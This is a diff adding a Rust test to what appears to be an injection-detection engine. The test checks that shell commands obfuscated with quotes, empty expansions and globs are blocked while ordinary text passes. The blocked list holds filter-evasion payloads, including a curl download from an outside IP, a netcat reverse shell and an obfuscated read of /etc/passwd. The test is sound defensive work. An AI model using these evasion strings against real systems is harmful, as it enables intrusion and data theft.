@@ -678,3 +678,45 @@ fn php_calls_through_computed_names_in_every_position() {
         ],
     );
 }
+
+#[test]
+fn shell_commands_broken_up_by_quotes_and_empty_expansions_in_every_position() {
+    let engine = engine();
+    blocked_in_every_position(
+        &engine,
+        &[
+            "x;w'h'o'am'i",
+            "1|u\"n\"a\"m\"e -a",
+            "a&&c''u''r''l -o /tmp/a http://203.0.113.9/a",
+            "a;n$@c -e /bin/sh 203.0.113.9 4444",
+            "$(id$u)",
+            "q;pe``rl -e 'print 1'",
+            "x;ch$()mod +x /tmp/a",
+            "b\\a\\s\\h -c id",
+            "i'f'config",
+            "n${z}etstat -an",
+            "ls$*$@ -la /root",
+            "tac /e't'c/pa?swd",
+            "/u?r/b?n/wh?ami",
+            "/usr/bin/w[h]oami",
+            "/s?in/i[f]config",
+        ],
+    );
+    passed_in_every_position(
+        &engine,
+        &[
+            "Don't run it in production; we're not 'root' here",
+            "O'Neil's order: two cat toys; we'll pick them up",
+            "She said \"whoami\" is a command, and 'uname' another",
+            "In bash, ${HOME} and $PATH are variables; \"$@\" expands arguments",
+            "Use ``code`` spans in reStructuredText, ```bash fences``` in Markdown",
+            "Price: US$5; the 'cat' is O'Reilly's",
+            "/usr/local/bin/node and /etc/nginx/*.conf are paths",
+            "https://example.com/search?q=cat&sort=asc",
+            "See [the FAQ](/docs/faq?tab=shell) or /docs/faq?",
+            "rock'n'roll; find your way home",
+            "C:\\Users\\ana\\Documents\\report.docx",
+            "print(f'{name}'); x = \"a\" + 'b'",
+        ],
+    );
+}
